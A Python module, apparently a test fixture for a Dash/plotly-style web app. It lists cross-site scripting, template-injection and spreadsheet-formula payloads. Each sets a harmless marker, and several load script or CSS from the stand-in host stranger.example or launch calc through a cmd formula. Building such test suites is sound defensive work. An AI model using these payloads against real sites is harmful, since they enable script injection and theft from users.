"""Text that wants to run: what somebody might type into a field, or put into a file, to have a reader's browser obey.

Each payload says its own number when it runs (``window.__fired = 7``), so that a test can name it. ``PAYLOADS`` are
those that do, or would in a careless app; the sources are the OWASP and PortSwigger collections, and what Dash and
plotly once did with such text.
"""

from __future__ import annotations

import json

RUN = "RUN"  # in a template: the script. stranger.example is a host that no page of ours may ask

TAGS = (
    "<script>RUN</script>",
    "<SCRIPT SRC=//stranger.example/x.js></SCRIPT>",
    '"><script>RUN</script>',
    "'><script>RUN</script>",
    "</script><script>RUN</script>",
    "</title><script>RUN</script>",
    "</textarea><script>RUN</script>",
    "</style><script>RUN</script>",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    "<script/x>RUN</script\t>",
    "]]><script>RUN</script>",
    "--><script>RUN</script>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>RUN</x:script>",
)
HANDLERS = (
    "<img src=x onerror=RUN>",
    "<img/src=x/onerror=RUN>",
    "<IMG SRC=x\nONERROR\n=\nRUN>",
    '"><img src=x onerror="RUN">',
    "'\"><img src=x onerror='RUN'>",
    "`><img src=x onerror=`RUN`>",
    "<img src=x onerror=&#119;indow.__fired=NUMBER>",
    "<img srcset=x onerror=alert(NUMBER),RUN>",
    '" onmouseover="RUN" x="',
    "' onfocus='RUN' autofocus tabindex=0 x='",
    '" style=animation-name:spin onanimationstart="RUN" x="',
    "<b onmouseover=RUN>point here</b>",
    "<b onclick=RUN>press here</b>",
    "<p tabindex=0 onfocus=RUN autofocus>tab here</p>",
    "<body onload=RUN>",
    "<input autofocus onfocus=RUN>",
    "<select autofocus onfocus=RUN><option>one</select>",
    "<details open ontoggle=RUN><summary>more</summary></details>",
    "<video><source onerror=RUN></video>",
    "<audio src onerror=RUN>",
    "<marquee onstart=RUN>news</marquee>",
    "<button popovertarget=p>press</button><p popover id=p onbeforetoggle=RUN>",
)
DRAWINGS = (
    "<svg onload=RUN>",
    "<svg><script>RUN</script></svg>",
    "<svg/onload=&#119;indow.__fired&equals;NUMBER>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:RUN'><text x=20 y=20>press</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=\"http://www.w3.org/2000/svg\"><script>RUN</script></svg>#x'/>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=RUN>'>",
    "<math href='javascript:RUN'><mi>press</mi></math>",
    "<svg><foreignObject><iframe srcdoc='<script>RUN</script>'></iframe></foreignObject></svg>",
)
ADDRESSES = (
    "javascript:RUN//",
    "JaVaScRiPt:RUN//",
    "java\tscript:RUN//",
    "java\nscript:RUN//",
    " \x01javascript:RUN//",
    "javascript&colon;RUN//",
    "&#106;avascript:RUN//",
    "javascript://%0aRUN//",
    "data:text/html,<script>RUN</script>",
    "data:text/html;base64,PHNjcmlwdD50b3AuX19maXJlZD0xPC9zY3JpcHQ+",
    "vbscript:RUN",
    "//stranger.example/%2e%2e",
    "https:stranger.example",
    "\\\\stranger.example\\share",
)
LINKS = (
    '<a href="javascript:RUN">press</a>',
    "<a href='java\tscript:RUN'>press</a>",
    '<a href="https://stranger.example" target="_blank">school office</a>',
    "[press](javascript:RUN)",
    '![x](x"onerror="RUN)',
    "<javascript:RUN>",
    "<form action=javascript:RUN><button>press</button></form>",
    "<form><button formaction=javascript:RUN>press</button></form>",
    "<base href='javascript:RUN//'>",
    "<meta http-equiv=refresh content='0;url=//stranger.example'>",
)
FRAMES = (
    "<iframe src=javascript:RUN></iframe>",
    "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
    '<iframe srcdoc="&lt;img src=x onerror=parent.RUN&gt;"></iframe>',
    "<object data='data:text/html,<script>RUN</script>'></object>",
    '<embed src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"/>\'>',
    "<template shadowrootmode=open><img src=x onerror=RUN></template>",
)
STYLES = (
    "<style>@import'//stranger.example/x.css';</style>",
    "<link rel=stylesheet href=//stranger.example/x.css>",
    "red;background:url(//stranger.example/x.png)",
    "var(--x);}*{background:url(//stranger.example/x)}",
    "<div style='background:url(\"javascript:RUN\")'>",
    "expression(RUN)",
    "<span style='color:red;position:fixed;inset:0'>%{text}<br><extra></extra></span>",
)
LANGUAGES = (
    "{{constructor.constructor('RUN')()}}",
    "${RUN}",
    "#{RUN}",
    "<%= RUN %>",
    "{%renderer%}<script>RUN</script>",
    "{{ config.items() }}",
    "';RUN;//",
    '";RUN;//',
    "\\';RUN;//",
    "*/RUN/*",
    '"}],"x":"</script><script>RUN</script>',
    '"});RUN;({"x":"',
    "\u2028RUN\u2029",
    "%{x:=RUN}",
    "$$\\href{javascript:RUN}{x}$$",
    '=HYPERLINK("javascript:RUN","press")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "__proto__",
    "constructor",
)
DISGUISES = (
    "\u202e<script>RUN</script>\u202c",
    "\u2066<img src=x onerror=RUN>\u2069",
    "\ufeff<script>RUN</script>",
    "\uff1cscript\uff1eRUN\uff1c/script\uff1e",
    "\u2039img src=x onerror=RUN\u203a",
    "<\u0455cript>RUN</\u0455cript>",
    "<img\u00a0src=x\u3000onerror=RUN>",
    "<s\u0131mg/><\u017fcript>RUN</\u017fcript>",
    "+ADw-script+AD4-RUN+ADw-/script+AD4-",
    "%3Cscript%3ERUN%3C/script%3E",
    "%253Cscript%253ERUN%253C/script%253E",
    "&lt;script&gt;RUN&lt;/script&gt;",
    "\\u003cscript\\u003eRUN\\u003c/script\\u003e",
    "<\x00script>RUN</script>",
    "\U0001f469\u200d\U0001f3eb<img src=x onerror=RUN>",
    "Z\u0351\u036b\u0343a\u0363\u0368l\u0348g\u034eo<script>RUN</script>",
)
SWALLOWERS = (  # what hides all that stands behind it, where it is read as HTML: last
    "<!--<img src='--><img src=x onerror=RUN>'>",
    "<noscript><p title='</noscript><img src=x onerror=RUN>'>",
    "<xmp><p title='</xmp><img src=x onerror=RUN>'>",
    "<textarea><p title='</textarea><img src=x onerror=RUN>'>",
    "<plaintext>",
)


def component(name: str, **props: object) -> str:
    """A component of Dash, as its renderer would read it: once a way to have a page drawn by somebody else."""
    return json.dumps({"type": name, "namespace": "dash_html_components", "props": props})


COMPONENTS = (
    component("Iframe", srcDoc="<script>parent.RUN</script>"),
    component("A", href="javascript:RUN", children="press"),
    component("Img", src="x", onError="RUN"),
    '["img", {"src": "x", "onerror": "RUN"}]',
    '["script", {"dangerouslySetInnerHTML": {"__html": "RUN"}}, "RUN"]',
)
TEMPLATES = (
    *TAGS, *HANDLERS, *DRAWINGS, *ADDRESSES, *LINKS, *FRAMES, *STYLES, *LANGUAGES, *COMPONENTS, *DISGUISES, *SWALLOWERS,
)  # fmt: skip


def _numbered(template: str, number: int) -> str:
    return template.replace("NUMBER", str(number)).replace(RUN, f"window.__fired={number}")


PAYLOADS = tuple(_numbered(template, number) for number, template in enumerate(TEMPLATES))
FILTERS = ("school", "classroom", "program", "grade", "department", "level", "goal", "kind", "wave", "from", "to",
           "as_of", "compare", "view", "names", "undo", "with", "said")  # fmt: skip  # what of an address a page reads
